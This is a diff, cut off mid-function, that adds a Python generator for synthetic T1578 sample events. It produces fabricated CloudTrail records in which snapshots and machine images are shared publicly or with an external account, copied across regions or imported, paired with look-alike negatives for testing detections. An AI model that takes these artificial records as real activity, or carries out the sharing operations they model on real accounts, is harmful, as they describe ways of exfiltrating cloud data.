@@ -1,0 +1,1964 @@
+#!/usr/bin/env python3
+"""Regenerate the T1578 sample-event corpus under events/ (deterministic).
+
+    python3 events/generate.py
+
+Everything is derived from names: UUIDs are uuid5 of a fixed namespace, resource ids are
+sha256-derived, times are fixed. Running it twice gives byte-identical files. It reads the
+operations catalog (shared/catalog/t1578.toml) and writes, for every row, the `positive` and
+`negative` fixture it names, plus scenarios/, formats/ and variants/. It never deletes files.
+
+Shapes follow real records: DataDog/stratus-red-team detonation logs (CloudTrail), AWS
+documentation samples (rbin, shared-snapshot service events), and the Azure Activity Log
+export samples quoted in /work/shared/reference/wire-formats.md (section 1.6).
+"""
+from __future__ import annotations
+
+import base64
+import datetime as dt
+import gzip
+import hashlib
+import io
+import json
+import re
+import sys
+import tomllib
+import uuid
+from pathlib import Path
+
+EVENTS = Path(__file__).resolve().parent
+REPO = EVENTS.parent
+CATALOG = REPO / "shared" / "catalog" / "t1578.toml"
+
+OWN = "111122223333"
+EXT = "444455556666"
+EXT_ORG_ARN = "arn:aws:organizations::444455556666:organization/o-4k2h8q1xzm"
+SUB = "aaaaaaaa-1111-2222-3333-444444444444"
+TENANT = "bbbbbbbb-5555-6666-7777-888888888888"
+HIERARCHY = f"{TENANT}/contoso-root/mg-production/{SUB}"
+EC2_XMLNS = "http://ec2.amazonaws.com/doc/2016-11-15/"
+NS = uuid.UUID("5b0f3a5e-7d1c-4c8e-9a57-1578c0ffee00")
+UTC = dt.timezone.utc
+
+WRITTEN: list[Path] = []
+
+
+# ------------------------------------------------------------------------------------------------
+# deterministic helpers
+# ------------------------------------------------------------------------------------------------
+
+def uid(*parts) -> str:
+    return str(uuid.uuid5(NS, "|".join(str(p) for p in parts)))
+
+
+def hx(*parts, n: int = 16) -> str:
+    return hashlib.sha256("|".join(str(p) for p in parts).encode()).hexdigest()[:n]
+
+
+def num(*parts, mod: int) -> int:
+    return int(hx(*parts, n=12), 16) % mod
+
+
+def b32(*parts, n: int = 16) -> str:
+    """Upper-case base32-ish token (access key ids, role ids)."""
+    raw = hashlib.sha256("|".join(str(p) for p in parts).encode()).digest()
+    return base64.b32encode(raw).decode().replace("=", "")[:n].replace("0", "Q").replace("1", "R")
+
+
+def b64(*parts, n: int = 40) -> str:
+    raw = hashlib.sha512("|".join(str(p) for p in parts).encode()).digest()
+    raw += hashlib.sha512(raw).digest()
+    return base64.b64encode(raw).decode()[:n]
+
+
+def b64url(*parts, n: int = 40) -> str:
+    return b64(*parts, n=n).replace("+", "-").replace("/", "_")
+
+
+def rid(prefix: str, *parts) -> str:
+    """EC2-style id: prefix-0 + 16 hex (17 hex digits, like snap-041993b54a9b3af6f)."""
+    return f"{prefix}-0{hx(prefix, *parts, n=16)}"
+
+
+def ts(t: dt.datetime) -> str:
+    return t.strftime("%Y-%m-%dT%H:%M:%SZ")
+
+
+def ts7(t: dt.datetime) -> str:
+    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}0Z"
+
+
+def epoch_ms(t: dt.datetime) -> int:
+    return int(t.timestamp() * 1000)
+
+
+def rds_date(t: dt.datetime) -> str:
+    h = t.hour % 12 or 12
+    return f"{t:%b} {t.day}, {t.year}, {h}:{t:%M:%S} {'AM' if t.hour < 12 else 'PM'}"
+
+
+def kebab(name: str) -> str:
+    return re.sub(r"(?<=[a-z0-9])(?=[A-Z])|(?<=[A-Z])(?=[A-Z][a-z])", "-", name).lower()
+
+
+def write_json(rel: str, obj, *, indent: int | None = 2) -> None:
+    path = EVENTS / rel
+    path.parent.mkdir(parents=True, exist_ok=True)
+    text = json.dumps(obj, indent=indent, ensure_ascii=False)
+    path.write_text(text + "\n", encoding="utf-8")
+    WRITTEN.append(path)
+
+
+def write_text(rel: str, text: str) -> None:
+    path = EVENTS / rel
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text, encoding="utf-8")
+    WRITTEN.append(path)
+
+
+def write_bytes(rel: str, data: bytes) -> None:
+    path = EVENTS / rel
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data)
+    WRITTEN.append(path)
+
+
+# ------------------------------------------------------------------------------------------------
+# AWS principals and context
+# ------------------------------------------------------------------------------------------------
+
+AWS_PRINCIPALS = {
+    "alice": dict(kind="IAMUser", name="alice", ip="198.51.100.23", ua="cli2", hour=9),
+    "bob": dict(kind="IAMUser", name="bob", ip="203.0.113.87", ua="boto3", hour=14),
+    "ci-deploy": dict(kind="AssumedRole", role="ci-deploy", path="", session="GitHubActions-11873402251",
+                      web_identity=True, ip="203.0.113.160", ua="cli2gha", hour=2),
+    "sso-admin": dict(kind="AssumedRole", role="AWSReservedSSO_AdministratorAccess_4f2b8c1d9e7a6b35",
+                      path="aws-reserved/sso.amazonaws.com/", session="carol@example.com",
+                      ip="192.0.2.140", ua="console", hour=11),
+    "svc-terraform": dict(kind="IAMUser", name="svc-terraform", ip="198.51.100.201", ua="terraform", hour=16),
+    "eve": dict(kind="IAMUser", name="eve", ip="192.0.2.77", ua="cli1", hour=21),
+    "root": dict(kind="Root", ip="192.0.2.15", ua="console", hour=20),
+    "atomic-tester": dict(kind="IAMUser", name="atomic-tester", ip="198.51.100.9", ua="cli2", hour=14),
+}
+AWS_POOL = ["alice", "bob", "ci-deploy", "sso-admin", "svc-terraform", "eve"]
+# fixtures deliberately made by the root user (console)
+AWS_ROOT_FILES = {"aws/ec2-enable-serial-console-access.json", "aws/ec2-disable-ebs-encryption-by-default.json"}
+REGIONS = ["us-east-1", "us-east-1", "us-east-1", "eu-west-1", "us-west-2"]
+
+
+def other_region(region: str) -> str:
+    return "us-west-2" if region != "us-west-2" else "us-east-1"
+
+
+class Ctx:
+    """One CloudTrail record being built: who, when, where."""
+
+    def __init__(self, key: str, t: dt.datetime, principal: str, region: str, session: str | None = None):
+        self.key = key
+        self.t = t
+        self.pname = principal
+        self.p = AWS_PRINCIPALS[principal]
+        self.region = region
+        self.session = session or self.p.get("session")
+        if principal == "ci-deploy" and session is None:  # one GitHub Actions run per call
+            self.session = f"GitHubActions-{11873402251 + num(key, 'run', mod=90000000)}"
+        self.request_id = uid(key, "requestID")
+        self.event_id = uid(key, "eventID")
+
+    # -- identity -------------------------------------------------------------------------------
+    def arn(self) -> str:
+        p = self.p
+        if p["kind"] == "IAMUser":
+            return f"arn:aws:iam::{OWN}:user/{p['name']}"
+        if p["kind"] == "Root":
+            return f"arn:aws:iam::{OWN}:root"
+        return f"arn:aws:sts::{OWN}:assumed-role/{p['role']}/{self.session}"
+
+    def identity(self) -> dict:
+        p = self.p
+        if p["kind"] == "IAMUser":
+            return {
+                "type": "IAMUser",
+                "principalId": "AIDA" + b32("principal", p["name"], n=17),
+                "arn": self.arn(),
+                "accountId": OWN,
+                "accessKeyId": "AKIA" + b32("akia", p["name"], n=16),
+                "userName": p["name"],
+            }
+        if p["kind"] == "Root":
+            return {
+                "type": "Root",
+                "principalId": OWN,
+                "arn": self.arn(),
+                "accountId": OWN,
+                "accessKeyId": "ASIA" + b32("root-session", self.key, n=16),
+                "sessionContext": {
+                    "attributes": {"creationDate": ts(self.t - dt.timedelta(minutes=23)), "mfaAuthenticated": "true"},
+                },
+            }
+        role_id = "AROA" + b32("role", p["role"], n=17)
+        web = ({"federatedProvider": f"arn:aws:iam::{OWN}:oidc-provider/token.actions.githubusercontent.com",
+                "attributes": {}} if p.get("web_identity") else {})
+        return {
+            "type": "AssumedRole",
+            "principalId": f"{role_id}:{self.session}",
+            "arn": self.arn(),
+            "accountId": OWN,
+            "accessKeyId": "ASIA" + b32("asia", self.key, self.session, n=16),
+            "sessionContext": {
+                "sessionIssuer": {
+                    "type": "Role",
+                    "principalId": role_id,
+                    "arn": f"arn:aws:iam::{OWN}:role/{p.get('path', '')}{p['role']}",
+                    "accountId": OWN,
+                    "userName": p["role"],
+                },
+                "webIdFederationData": web,
+                "attributes": {"creationDate": ts(self.t - dt.timedelta(minutes=num(self.key, "sess", mod=50) + 3)),
+                               "mfaAuthenticated": "false"},
+            },
+        }
+
+    @property
+    def console(self) -> bool:
+        return self.p["ua"] == "console"
+
+    def user_agent(self, service: str, event_name: str) -> str:
+        style = self.p["ua"]
+        cmd = f"{service}.{kebab(event_name)}"
+        if style == "cli2":
+            return f"aws-cli/2.17.42 Python/3.12.6 Linux/6.8.0-1016-aws exe/x86_64.ubuntu.24 prompt/off command/{cmd}"
+        if style == "cli2gha":
+            return ("aws-cli/2.18.5 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-1017-azure md/arch#x86_64 "
+                    "lang/python#3.12.6 md/pyimpl#CPython exec-env/GitHubActions cfg/retry-mode#standard "
+                    f"md/installer#exe md/distrib#ubuntu.24 md/prompt#off md/command#{cmd}")
+        if style == "boto3":
+            return ("Boto3/1.35.36 md/Botocore#1.35.36 ua/2.0 os/macos#23.6.0 md/arch#arm64 lang/python#3.12.6 "
+                    "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.36")
+        if style == "terraform":
+            api = {"ec2": "ec2#1.186.0", "rds": "rds#1.87.3", "rbin": "rbin#1.20.3"}[service]
+            return ("APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.72.1 "
+                    "(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.32.2 ua/2.1 os/linux "
+                    f"lang/go#1.23.2 md/GOOS#linux md/GOARCH#amd64 api/{api}")
+        if style == "cli1":
+            return "aws-cli/1.35.10 Python/3.9.20 Windows/10 exe/AMD64 botocore/1.35.44"
+        if style == "console":
+            return "console.ec2.amazonaws.com" if service == "ec2" else "console.amazonaws.com"
+        raise ValueError(style)
+
+    # -- ids ------------------------------------------------------------------------------------
+    def ms(self, delta: float = 0) -> int:
+        return epoch_ms(self.t + dt.timedelta(seconds=delta))
+
+
+EVENT_VERSION = {"ec2": "1.10", "rds": "1.08", "rbin": "1.08"}
+
+
+def ct_record(ctx: Ctx, service: str, name: str, req, resp, error: tuple[str, str] | None = None) -> dict:
+    d: dict = {
+        "eventVersion": EVENT_VERSION[service],
+        "userIdentity": ctx.identity(),
+        "eventTime": ts(ctx.t),
+        "eventSource": f"{service}.amazonaws.com",
+        "eventName": name,
+        "awsRegion": ctx.region,
+        "sourceIPAddress": ctx.p["ip"],
+        "userAgent": ctx.user_agent(service, name),
+    }
+    if error:
+        d["errorCode"], d["errorMessage"] = error
+    d["requestParameters"] = req
+    d["responseElements"] = None if error else resp
+    d["requestID"] = ctx.request_id
+    d["eventID"] = ctx.event_id
+    d["readOnly"] = False
+    d["eventType"] = "AwsApiCall"
+    d["managementEvent"] = True
+    d["recipientAccountId"] = OWN
+    d["eventCategory"] = "Management"
+    d["tlsDetails"] = {
+        "tlsVersion": "TLSv1.3",
+        "cipherSuite": "TLS_AES_128_GCM_SHA256",
+        "clientProvidedHostHeader": f"{service}.{ctx.region}.amazonaws.com",
+    }
+    if ctx.console:
+        d["sessionCredentialFromConsole"] = "true"
+    return d
+
+
+def envelope(detail: dict, key: str, service_event: bool = False) -> dict:
+    return {
+        "version": "0",
+        "id": uid(key, "envelope"),
+        "detail-type": "AWS Service Event via CloudTrail" if service_event else "AWS API Call via CloudTrail",
+        "source": "aws." + detail["eventSource"].split(".")[0],
+        "account": detail["recipientAccountId"],
+        "time": detail["eventTime"],
+        "region": detail["awsRegion"],
+        "resources": [],
+        "detail": detail,
+    }
+
+
+def auth_error(ctx: Ctx, service: str, name: str, resource_arn: str) -> tuple[str, str]:
+    action = f"{service}:{name}"
+    if service == "ec2":
+        return ("Client.UnauthorizedOperation",
+                f"You are not authorized to perform this operation. User: {ctx.arn()} is not authorized to perform: "
+                f"{action} on resource: {resource_arn} because no identity-based policy allows the {action} action. "
+                f"Encoded authorization failure message: {b64url('encoded', ctx.key, n=380)}")
+    return ("AccessDenied",
+            f"User: {ctx.arn()} is not authorized to perform: {action} on resource: {resource_arn} "
+            f"because no identity-based policy allows the {action} action")
+
+
+DRYRUN = ("Client.DryRunOperation", "Request would have succeeded, but DryRun flag is set.")
+
+
+# ------------------------------------------------------------------------------------------------
+# AWS builders: (ctx, row_id, look) -> (service, eventName, requestParameters, responseElements, resource_arn)
+# `look` is True for a semantic look-alike negative (share to self, IMDS required, ...).
+# Error negatives (-dryrun / -failed / -unauthorized) reuse the positive request.
+# ------------------------------------------------------------------------------------------------
+
+def ec2_ok(ctx: Ctx, **fields) -> dict:
+    return {"requestId": ctx.request_id, **fields}
+
+
+def ec2_wrapped(ctx: Ctx, op: str, **fields) -> dict:
+    return {f"{op}Response": {"requestId": ctx.request_id, **fields, "xmlns": EC2_XMLNS}}
+
+
+def ec2_arn(ctx: Ctx, kind: str, ident: str, account: str = OWN) -> str:
+    if kind in ("snapshot", "image"):
+        return f"arn:aws:ec2:{ctx.region}::{kind}/{ident}"
+    return f"arn:aws:ec2:{ctx.region}:{account}:{kind}/{ident}"
+
+
+def instance_state(iid: str, cur: tuple[int, str], prev: tuple[int, str]) -> dict:
+    return {"instanceId": iid, "currentState": {"code": cur[0], "name": cur[1]},
+            "previousState": {"code": prev[0], "name": prev[1]}}
+
+
+def run_instances(ctx: Ctx, row: str, count: int, itype: str, http_tokens: str, name_tag: str):
+    ami = rid("ami", row, "base")
+    subnet = rid("subnet", "prod-a")
+    sg = rid("sg", "app")
+    vpc = rid("vpc", "prod")
+    az = ctx.region + "a"
+    req = {
+        "instancesSet": {"items": [{"imageId": ami, "minCount": count, "maxCount": count}]},
+        "instanceType": itype,
+        "blockDeviceMapping": {},
+        "monitoring": {"enabled": False},
+        "subnetId": subnet,
+        "disableApiTermination": False,
+        "disableApiStop": False,
+        "clientToken": uid(ctx.key, "clientToken"),
+        "groupSet": {"items": [{"groupId": sg}]},
+        "iamInstanceProfile": {"name": "app-instance-profile"},
+        "metadataOptions": {"httpTokens": http_tokens, "httpPutResponseHopLimit": 2, "httpEndpoint": "enabled"},
+        "tagSpecificationSet": {"items": [{"resourceType": "instance", "tags": [{"key": "Name", "value": name_tag}]}]},
+    }
+    items = []
+    for i in range(count):
+        iid = rid("i", row, "run", i)
+        ip = f"10.20.{num(row, i, 'oct3', mod=250) + 1}.{num(row, i, 'oct4', mod=250) + 2}"
+        items.append({
+            "instanceId": iid,
+            "imageId": ami,
+            "instanceState": {"code": 0, "name": "pending"},
+            "privateDnsName": f"ip-{ip.replace('.', '-')}.ec2.internal" if ctx.region == "us-east-1"
+            else f"ip-{ip.replace('.', '-')}.{ctx.region}.compute.internal",
+            "amiLaunchIndex": i,
+            "productCodes": {},
+            "instanceType": itype,
+            "launchTime": ctx.ms(),
+            "placement": {"availabilityZone": az, "tenancy": "default"},
+            "monitoring": {"state": "disabled"},
+            "subnetId": subnet,
+            "vpcId": vpc,
+            "privateIpAddress": ip,
+            "stateReason": {"code": "pending", "message": "pending"},
+            "architecture": "x86_64",
+            "rootDeviceType": "ebs",
+            "rootDeviceName": "/dev/xvda",
+            "blockDeviceMapping": {},
+            "virtualizationType": "hvm",
+            "hypervisor": "xen",
+            "tagSet": {"items": [{"key": "Name", "value": name_tag}]},
+            "groupSet": {"items": [{"groupId": sg, "groupName": "app"}]},
+            "sourceDestCheck": True,
+            "networkInterfaceSet": {"items": [{
+                "networkInterfaceId": rid("eni", row, i),
+                "subnetId": subnet,
+                "vpcId": vpc,
+                "ownerId": OWN,
+                "status": "in-use",
+                "macAddress": ":".join(hx("mac", row, i, n=12)[j:j + 2] for j in range(0, 12, 2)),
+                "privateIpAddress": ip,
+                "sourceDestCheck": True,
+                "interfaceType": "interface",
+                "groupSet": {"items": [{"groupId": sg, "groupName": "app"}]},
+                "attachment": {"attachmentId": rid("eni-attach", row, i), "deviceIndex": 0, "networkCardIndex": 0,
+                               "status": "attaching", "attachTime": ctx.ms(), "deleteOnTermination": True},
+                "privateIpAddressesSet": {"item": [{"privateIpAddress": ip, "primary": True}]},
+                "ipv6AddressesSet": {},
+                "tagSet": {},
+            }]},
+            "iamInstanceProfile": {"arn": f"arn:aws:iam::{OWN}:instance-profile/app-instance-profile",
+                                   "id": "AIPA" + b32("ip", "app-instance-profile", n=17)},
+            "ebsOptimized": False,
+            "enaSupport": True,
+            "cpuOptions": {"coreCount": 2, "threadsPerCore": 2},
+            "capacityReservationSpecification": {"capacityReservationPreference": "open"},
+            "enclaveOptions": {"enabled": False},
+            "metadataOptions": {"state": "pending", "httpTokens": http_tokens, "httpPutResponseHopLimit": 2,
+                                "httpEndpoint": "enabled", "httpProtocolIpv4": "enabled",
+                                "httpProtocolIpv6": "disabled", "instanceMetadataTags": "disabled"},
+            "maintenanceOptions": {"autoRecovery": "default"},
+            "currentInstanceBootMode": "legacy-bios",
+        })
+    resp = ec2_ok(ctx, reservationId=rid("r", row), ownerId=OWN, groupSet={}, instancesSet={"items": items})
+    return "ec2", "RunInstances", req, resp, ec2_arn(ctx, "instance", "*")
+
+
+def db_instance(ctx: Ctx, ident: str, status: str, **over) -> dict:
+    az = ctx.region + "b"
+    d = {
+        "dBInstanceIdentifier": ident,
+        "dBInstanceClass": "db.r6g.large",
+        "engine": "postgres",
+        "dBInstanceStatus": status,
+        "masterUsername": "pgadmin",
+        "endpoint": {"address": f"{ident}.c9akciq32k1z.{ctx.region}.rds.amazonaws.com", "port": 5432,
+                     "hostedZoneId": "Z2R2ITUGPM61AM"},
+        "allocatedStorage": 200,
+        "instanceCreateTime": rds_date(dt.datetime(2025, 3, 3, 10, 12, 45, tzinfo=UTC)),
+        "preferredBackupWindow": "03:00-03:30",
+        "backupRetentionPeriod": 7,
+        "dBSecurityGroups": [],
+        "vpcSecurityGroups": [{"vpcSecurityGroupId": rid("sg", "db"), "status": "active"}],
+        "dBParameterGroups": [{"dBParameterGroupName": "default.postgres16", "parameterApplyStatus": "in-sync"}],
+        "availabilityZone": az,
+        "dBSubnetGroup": {
+            "dBSubnetGroupName": "db-private",
+            "dBSubnetGroupDescription": "private database subnets",
+            "vpcId": rid("vpc", "prod"),
+            "subnetGroupStatus": "Complete",
+            "subnets": [{"subnetIdentifier": rid("subnet", "db-b"), "subnetAvailabilityZone": {"name": az},
+                         "subnetOutpost": {}, "subnetStatus": "Active"}],
+        },
+        "preferredMaintenanceWindow": "sun:05:00-sun:05:30",
+        "pendingModifiedValues": {},
+        "latestRestorableTime": rds_date(ctx.t - dt.timedelta(minutes=4)),
+        "multiAZ": False,
+        "engineVersion": "16.4",
+        "autoMinorVersionUpgrade": True,
+        "readReplicaDBInstanceIdentifiers": [],
+        "licenseModel": "postgresql-license",
+        "optionGroupMemberships": [{"optionGroupName": "default:postgres-16", "status": "in-sync"}],
+        "publiclyAccessible": False,
+        "storageType": "gp3",
+        "dbInstancePort": 0,
+        "storageEncrypted": True,
+        "kmsKeyId": f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'rds', ctx.region)}",
+        "dbiResourceId": "db-" + b32("dbi", ident, n=26),
+        "cACertificateIdentifier": "rds-ca-rsa2048-g1",
+        "domainMemberships": [],
+        "copyTagsToSnapshot": True,
+        "monitoringInterval": 0,
+        "dBInstanceArn": f"arn:aws:rds:{ctx.region}:{OWN}:db:{ident}",
+        "iAMDatabaseAuthenticationEnabled": False,
+        "performanceInsightsEnabled": False,
+        "deletionProtection": True,
+        "associatedRoles": [],
+        "tagList": [{"key": "env", "value": "prod"}],
+        "customerOwnedIpEnabled": False,
+        "backupTarget": "region",
+        "networkType": "IPV4",
+        "storageThroughput": 125,
+        "certificateDetails": {"cAIdentifier": "rds-ca-rsa2048-g1", "validTill": "Mar 3, 2026, 10:11:00 AM"},
+        "dedicatedLogVolume": False,
+        "engineLifecycleSupport": "open-source-rds-extended-support",
+    }
+    if status == "creating":
+        for k in ("endpoint", "latestRestorableTime", "instanceCreateTime"):
+            d.pop(k)
+    d.update(over)
+    return d
+
+
+def db_snapshot(ctx: Ctx, ident: str, instance: str, status: str, stype: str = "manual", **over) -> dict:
+    az = ctx.region + "b"
+    d = {
+        "dBSnapshotIdentifier": ident,
+        "dBInstanceIdentifier": instance,
+        "snapshotCreateTime": rds_date(ctx.t - dt.timedelta(days=3, hours=2)),
+        "engine": "postgres",
+        "allocatedStorage": 200,
+        "status": status,
+        "port": 5432,
+        "availabilityZone": az,
+        "vpcId": rid("vpc", "prod"),
+        "instanceCreateTime": rds_date(dt.datetime(2025, 3, 3, 10, 12, 45, tzinfo=UTC)),
+        "masterUsername": "pgadmin",
+        "engineVersion": "16.4",
+        "licenseModel": "postgresql-license",
+        "snapshotType": stype,
+        "percentProgress": 100,
+        "storageType": "gp3",
+        "encrypted": True,
+        "kmsKeyId": f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'rds', ctx.region)}",
+        "dBSnapshotArn": f"arn:aws:rds:{ctx.region}:{OWN}:snapshot:{ident}",
+        "iAMDatabaseAuthenticationEnabled": False,
+        "processorFeatures": [],
+        "dbiResourceId": "db-" + b32("dbi", instance, n=26),
+        "tagList": [],
+        "originalSnapshotCreateTime": rds_date(ctx.t - dt.timedelta(days=3, hours=2)),
+        "snapshotTarget": "region",
+        "storageThroughput": 125,
+        "dedicatedLogVolume": False,
+        "multiTenant": False,
+    }
+    if status == "creating":
+        d["percentProgress"] = 0
+        d.pop("snapshotCreateTime")
+        d.pop("originalSnapshotCreateTime")
+    d.update(over)
+    return d
+
+
+def db_cluster(ctx: Ctx, ident: str, status: str, **over) -> dict:
+    d = {
+        "allocatedStorage": 1,
+        "availabilityZones": [ctx.region + "a", ctx.region + "b", ctx.region + "c"],
+        "backupRetentionPeriod": 7,
+        "dBClusterIdentifier": ident,
+        "dBClusterParameterGroup": "default.aurora-postgresql16",
+        "dBSubnetGroup": "db-private",
+        "status": status,
+        "endpoint": f"{ident}.cluster-c9akciq32k1z.{ctx.region}.rds.amazonaws.com",
+        "readerEndpoint": f"{ident}.cluster-ro-c9akciq32k1z.{ctx.region}.rds.amazonaws.com",
+        "multiAZ": False,
+        "engine": "aurora-postgresql",
+        "engineVersion": "16.4",
+        "port": 5432,
+        "masterUsername": "pgadmin",
+        "preferredBackupWindow": "04:00-04:30",
+        "preferredMaintenanceWindow": "sat:06:00-sat:06:30",
+        "readReplicaIdentifiers": [],
+        "dBClusterMembers": [],
+        "vpcSecurityGroups": [{"vpcSecurityGroupId": rid("sg", "db"), "status": "active"}],
+        "hostedZoneId": "Z2R2ITUGPM61AM",
+        "storageEncrypted": True,
+        "kmsKeyId": f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'rds', ctx.region)}",
+        "dbClusterResourceId": "cluster-" + b32("cluster", ident, n=26),
+        "dBClusterArn": f"arn:aws:rds:{ctx.region}:{OWN}:cluster:{ident}",
+        "associatedRoles": [],
+        "iAMDatabaseAuthenticationEnabled": False,
+        "clusterCreateTime": rds_date(dt.datetime(2025, 6, 12, 8, 30, 1, tzinfo=UTC)),
+        "engineMode": "provisioned",
+        "deletionProtection": False,
+        "httpEndpointEnabled": False,
+        "copyTagsToSnapshot": True,
+        "crossAccountClone": False,
+        "domainMemberships": [],
+        "tagList": [],
+        "autoMinorVersionUpgrade": True,
+        "networkType": "IPV4",
+        "engineLifecycleSupport": "open-source-rds-extended-support",
+    }
+    d.update(over)
+    return d
+
+
+def db_cluster_snapshot(ctx: Ctx, ident: str, cluster: str, status: str, **over) -> dict:
+    d = {
+        "availabilityZones": [ctx.region + "a", ctx.region + "b", ctx.region + "c"],
+        "dBClusterSnapshotIdentifier": ident,
+        "dBClusterIdentifier": cluster,
+        "engine": "aurora-postgresql",
+        "engineMode": "provisioned",
+        "allocatedStorage": 0,
+        "status": status,
+        "port": 0,
+        "vpcId": rid("vpc", "prod"),
+        "clusterCreateTime": rds_date(dt.datetime(2025, 6, 12, 8, 30, 1, tzinfo=UTC)),
+        "masterUsername": "pgadmin",
+        "engineVersion": "16.4",
+        "licenseModel": "postgresql-license",
+        "snapshotType": "manual",
+        "percentProgress": 0,
+        "storageEncrypted": True,
+        "kmsKeyId": f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'rds', ctx.region)}",
+        "dBClusterSnapshotArn": f"arn:aws:rds:{ctx.region}:{OWN}:cluster-snapshot:{ident}",
+        "iAMDatabaseAuthenticationEnabled": False,
+        "tagList": [],
+    }
+    d.update(over)
+    return d
+
+
+def share_attr(items_key: str, values: list[str]) -> dict:
+    return {items_key: {"items": [({"group": v} if v == "all" else {"userId": v}) for v in values]}}
+
+
+def b_snapshot_attribute(ctx, row, look, mode):
+    snap = rid("snap", row)
+    if mode == "public":
+        perm = {"add": {"items": [{"group": "all"}]}}
+    elif mode == "external":
+        perm = {"add": {"items": [{"userId": OWN if look else EXT}]}}
+    else:  # removed
+        perm = {"remove": {"items": [{"userId": EXT}]}}
+    req = {"snapshotId": snap, "attributeType": "CREATE_VOLUME_PERMISSION", "createVolumePermission": perm}
+    return "ec2", "ModifySnapshotAttribute", req, ec2_ok(ctx, _return=True), ec2_arn(ctx, "snapshot", snap)
+
+
+def b_image_attribute(ctx, row, look, mode):
+    ami = rid("ami", row)
+    if mode == "public":
+        items = [{"group": "all"}]
+    elif look:
+        items = [{"userId": OWN}]
+    else:
+        items = [{"userId": EXT}, {"organizationArn": EXT_ORG_ARN}]
+    req = {"imageId": ami, "attributeType": "launchPermission", "launchPermission": {"add": {"items": items}}}
+    return "ec2", "ModifyImageAttribute", req, ec2_ok(ctx, _return=True), ec2_arn(ctx, "image", ami)
+
+
+def b_create_snapshot(ctx, row, look):
+    vol = rid("vol", row)
+    snap = rid("snap", row)
+    desc = "pre-patch backup of web-01 root volume"
+    req = {"volumeId": vol, "description": desc}
+    resp = ec2_ok(ctx, snapshotId=snap, volumeId=vol, status="pending", startTime=ctx.ms(), progress="",
+                  ownerId=OWN, description=desc, volumeSize=100, encrypted=True,
+                  kmsKeyId=f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'ebs', ctx.region)}",
+                  storageTier="standard")
+    return "ec2", "CreateSnapshot", req, resp, ec2_arn(ctx, "volume", vol)
+
+
+def b_create_snapshots(ctx, row, look):
+    iid = rid("i", row)
+    req = {"CreateSnapshotsRequest": {"InstanceSpecification": {"InstanceId": iid, "ExcludeBootVolume": False},
+                                      "Description": "db-02 crash-consistent set", "CopyTagsFromSource": "volume"}}
+    items = []
+    for i, size in enumerate((50, 500)):
+        items.append({"snapshotId": rid("snap", row, i), "volumeId": rid("vol", row, i), "state": "pending",
+                      "startTime": ts(ctx.t), "progress": "", "ownerId": OWN, "volumeSize": size,
+                      "encrypted": True, "description": "db-02 crash-consistent set", "tagSet": ""})
+    resp = ec2_wrapped(ctx, "CreateSnapshots", snapshotSet={"item": items})
+    return "ec2", "CreateSnapshots", req, resp, ec2_arn(ctx, "instance", iid)
+
+
+def b_copy_snapshot(ctx, row, look, cross):
+    src_region = other_region(ctx.region) if cross else ctx.region
+    src = rid("snap", row, "source")
+    new = rid("snap", row, "copy")
+    req = {"sourceRegion": src_region, "sourceSnapshotId": src,
+           "description": f"[Copied {src} from {src_region}]"}
+    return "ec2", "CopySnapshot", req, ec2_ok(ctx, snapshotId=new), ec2_arn(ctx, "snapshot", new)
+
+
+def b_create_image(ctx, row, look):
+    iid = rid("i", row)
+    req = {"instanceId": iid, "name": "web-01-golden-20261007", "description": "web-01 image", "noReboot": True}
+    return "ec2", "CreateImage", req, ec2_ok(ctx, imageId=rid("ami", row)), ec2_arn(ctx, "instance", iid)
+
+
+def b_copy_image(ctx, row, look):
+    src_region = other_region(ctx.region)
+    src = rid("ami", row, "source")
+    req = {"sourceRegion": src_region, "sourceImageId": src, "name": "web-01-golden-copy",
+           "description": f"[Copied {src} from {src_region}] web-01-golden", "encrypted": False,
+           "clientToken": uid(ctx.key, "clientToken")}
+    return "ec2", "CopyImage", req, ec2_ok(ctx, imageId=rid("ami", row, "copy")), ec2_arn(ctx, "image", src)
+
+
+def b_register_image(ctx, row, look):
+    snap = rid("snap", row)
+    req = {"name": "restored-db-02-root", "architecture": "x86_64", "rootDeviceName": "/dev/xvda",
+           "blockDeviceMapping": {"items": [{"deviceName": "/dev/xvda",
+                                             "ebs": {"snapshotId": snap, "deleteOnTermination": True,
+                                                     "volumeType": "gp3"}}]},
+           "virtualizationType": "hvm", "enaSupport": True, "bootMode": "uefi-preferred"}
+    return "ec2", "RegisterImage", req, ec2_ok(ctx, imageId=rid("ami", row)), ec2_arn(ctx, "image", "*")
+
+
+def b_import_image(ctx, row, look):
+    bucket = "vm-import-staging-111122223333"
+    req = {"description": "imported appliance", "diskContainerSet": {"items": [
+        {"description": "disk1", "format": "VMDK", "userBucket": {"s3Bucket": bucket, "s3Key": "uploads/appliance-disk1.vmdk"}}]},
+        "licenseType": "BYOL", "roleName": "vmimport"}
+    resp = ec2_ok(ctx, importTaskId=rid("import-ami", row), description="imported appliance", licenseType="BYOL",
+                  progress="1", status="active", statusMessage="pending",
+                  snapshotDetailSet={"items": [{"diskImageSize": 0.0, "format": "VMDK",
+                                                "userBucket": {"s3Bucket": bucket,
+                                                               "s3Key": "uploads/appliance-disk1.vmdk"}}]})
+    return "ec2", "ImportImage", req, resp, ec2_arn(ctx, "import-image-task", "*")
+
+
+def b_import_snapshot(ctx, row, look):
+    bucket = "vm-import-staging-111122223333"
+    req = {"description": "imported disk", "diskContainer": {"description": "data disk", "format": "VHD",
+                                                             "userBucket": {"s3Bucket": bucket, "s3Key": "uploads/data.vhd"}},
+           "roleName": "vmimport"}
+    resp = ec2_ok(ctx, importTaskId=rid("import-snap", row), description="imported disk",
+                  snapshotTaskDetail={"diskImageSize": 0.0, "format": "VHD", "progress": "3", "status": "active",
+                                      "statusMessage": "pending",
+                                      "userBucket": {"s3Bucket": bucket, "s3Key": "uploads/data.vhd"}})
